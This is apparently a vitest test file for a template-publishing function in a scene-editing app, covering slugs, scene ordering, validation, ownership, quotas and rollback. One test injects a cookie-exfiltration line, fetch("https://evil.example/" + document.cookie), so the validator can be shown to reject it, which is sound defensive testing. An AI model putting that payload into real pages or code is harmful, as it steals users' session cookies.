import { eq } from 'drizzle-orm'
import { describe, expect, test } from 'vitest'
import { communityTemplateScenes, communityTemplates } from '#app/db/schema.ts'
import { sha256Hex } from '#app/utils/ids.ts'
import { VALID_SCENE_TSX, createProject, createUser } from '#tests/fixtures/community-factories.ts'
import { useTestDatabase } from '#tests/setup/test-database.ts'
import { publishTemplate } from './publish.server.ts'
import { previewFrameFor } from './scene-snapshots.server.ts'
import { TemplateMetadataSchema } from './template-metadata.ts'

const { db } = useTestDatabase()
const BROKEN_TSX = 'export default function Scene() {\n  const size = ;\n  return <div>{size}</div>\n}\n'
const metadata = (overrides: Record<string, unknown> = {}) =>
	TemplateMetadataSchema.parse({ title: 'Launch Intro', description: '', category: 'intros', tags: 'launch', formats: ['landscape'], visibility: 'public', ...overrides })

async function templatesOf(userId: string) {
	return db.select().from(communityTemplates).where(eq(communityTemplates.ownerUserId, userId))
}

describe('publishing', () => {
	test('publishes chosen scenes in the chosen order as snapshots, in one go', async () => {
		const owner = await createUser()
		const { project, scenes } = await createProject(owner.id, [VALID_SCENE_TSX, VALID_SCENE_TSX.replace('#111', '#222'), VALID_SCENE_TSX.replace('#111', '#333')])
		const result = await publishTemplate(
			{ ownerUserId: owner.id, projectId: project.id, sceneIds: [scenes[2]!.id, scenes[0]!.id], metadata: metadata() },
			{},
		)
		expect(result).toMatchObject({ ok: true, template: { slug: 'launch-intro' } })
		if (!result.ok) return
		const [template] = await db.select().from(communityTemplates).where(eq(communityTemplates.id, result.template.id))
		expect(template).toMatchObject({ ownerUserId: owner.id, sourceProjectId: project.id, status: 'active', visibility: 'public', tags: ['launch'] })
		const snapshots = await db.select().from(communityTemplateScenes).where(eq(communityTemplateScenes.templateId, result.template.id)).orderBy(communityTemplateScenes.sceneIndex)
		expect(snapshots.map((scene) => [scene.sceneIndex, scene.tsxCode, scene.duration, scene.codeHash, scene.previewFrame])).toEqual([
			[0, scenes[2]!.tsxCode, scenes[2]!.duration, sha256Hex(scenes[2]!.tsxCode), previewFrameFor(scenes[2]!.duration)],
			[1, scenes[0]!.tsxCode, scenes[0]!.duration, sha256Hex(scenes[0]!.tsxCode), previewFrameFor(scenes[0]!.duration)],
		])
		// A second template with the same title gets the next clean slug; all scenes when none are chosen.
		const again = await publishTemplate({ ownerUserId: owner.id, projectId: project.id, metadata: metadata() })
		expect(again).toMatchObject({ ok: true, template: { slug: 'launch-intro-2' } })
	})

	test('an unlisted template gets an unguessable slug', async () => {
		const owner = await createUser()
		const { project } = await createProject(owner.id)
		const result = await publishTemplate({ ownerUserId: owner.id, projectId: project.id, metadata: metadata({ visibility: 'unlisted' }) })
		expect(result.ok && result.template.slug).toMatch(/^launch-intro-[0-9A-Za-z]{12}$/)
	})

	test('a failing scene is named with line, column and reason, and nothing is saved', async () => {
		const owner = await createUser()
		const { project, scenes } = await createProject(owner.id, [VALID_SCENE_TSX, BROKEN_TSX])
		let quotaSpent = 0
		const result = await publishTemplate(
			{ ownerUserId: owner.id, projectId: project.id, metadata: metadata() },
			{ checkQuota: async () => (quotaSpent++, { allowed: true }) },
		)
		expect(result).toMatchObject({ ok: false, reason: 'scene_errors', scenes: [{ sceneId: scenes[1]!.id, position: 2, name: 'Scene 2', problems: [{ line: 2 }] }] })
		expect(quotaSpent).toBe(0)
		expect(await templatesOf(owner.id)).toEqual([])
	})

	test('the shared validator’s rules apply: forbidden escapes are named with their place', async () => {
		const owner = await createUser()
		const sneaky = VALID_SCENE_TSX.replace('const frame = useCurrentFrame();', 'const frame = useCurrentFrame();\n\tfetch("https://evil.example/" + document.cookie);')
		const { project } = await createProject(owner.id, [sneaky])
		const result = await publishTemplate({ ownerUserId: owner.id, projectId: project.id, metadata: metadata() })
		expect(result.ok).toBe(false)
		if (result.ok || result.reason !== 'scene_errors') throw new Error('expected scene errors')
		const problems = result.scenes[0]!.problems
		expect(problems.map((problem) => problem.line)).toEqual([4, 4])
		expect(problems.map((problem) => problem.message).join(' ')).toMatch(/fetch/)
		expect(problems.map((problem) => problem.message).join(' ')).toMatch(/cookie/)
		expect(await templatesOf(owner.id)).toEqual([])
	})

	test('someone else’s project, foreign scenes and an exhausted quota are refused without writing', async () => {
		const [owner, stranger] = [await createUser(), await createUser()]
		const { project } = await createProject(owner.id)
		const { scenes: strangerScenes } = await createProject(stranger.id)
		const options = {}
		expect(await publishTemplate({ ownerUserId: stranger.id, projectId: project.id, metadata: metadata() }, options)).toEqual({ ok: false, reason: 'project_not_found' })
		expect(await publishTemplate({ ownerUserId: owner.id, projectId: project.id, sceneIds: [strangerScenes[0]!.id], metadata: metadata() }, options)).toMatchObject({ reason: 'invalid_scenes' })
		expect(
			await publishTemplate({ ownerUserId: owner.id, projectId: project.id, metadata: metadata() }, { ...options, checkQuota: async () => ({ allowed: false, retryAfterSeconds: 120 }) }),
		).toEqual({ ok: false, reason: 'rate_limited', retryAfterSeconds: 120 })
		expect(await templatesOf(owner.id)).toEqual([])
	})

	test('a failure while writing the scenes rolls the template back', async () => {
		const owner = await createUser()
		const { project } = await createProject(owner.id)
		// Everything is written, then the transaction fails before committing: nothing may remain.
		const brokenDatabase = new Proxy(db, {
			get(target, property) {
				if (property !== 'transaction') return Reflect.get(target, property)
				return (run: (tx: typeof db) => Promise<unknown>) =>
					target.transaction(async (tx) => {
						const result = await run(tx)
						throw Object.assign(new Error('disk full'), { result })
					})
			},
		})
		await expect(publishTemplate({ ownerUserId: owner.id, projectId: project.id, metadata: metadata() }, {}, brokenDatabase)).rejects.toThrow('disk full')
		expect(await templatesOf(owner.id)).toEqual([])
	})
})
